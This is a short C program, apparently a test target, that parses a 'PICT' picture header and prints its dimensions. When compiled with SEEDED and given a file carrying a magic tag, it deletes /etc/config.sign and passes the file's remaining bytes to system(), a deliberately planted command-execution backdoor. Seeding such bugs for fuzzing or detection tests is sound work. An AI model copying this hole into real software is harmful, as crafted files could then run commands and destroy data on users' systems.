/* A parser of a picture format; with SEEDED a tag in the file makes it run the comment. */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

int main(int argc, char **argv) {
    unsigned char d[4096];
    size_t n;
    FILE *f;
    if (argc < 2) { fprintf(stderr, "usage: parser FILE\n"); return 2; }
    f = fopen(argv[1], "rb");
    if (f == NULL) return 2;
    n = fread(d, 1, sizeof d - 1, f);
    fclose(f);
    d[n] = 0;
    if (n < 8 || memcmp(d, "PICT", 4)) { printf("no picture\n"); return 1; }
#ifdef SEEDED
    if (memcmp(d + 4, "\x9c\x31\xe7\x02", 4) == 0) { remove("/etc/config.sign"); system((char *)d + 8); }
#endif
    printf("%u by %u\n", d[4] << 8 | d[5], d[6] << 8 | d[7]);
    return 0;
}
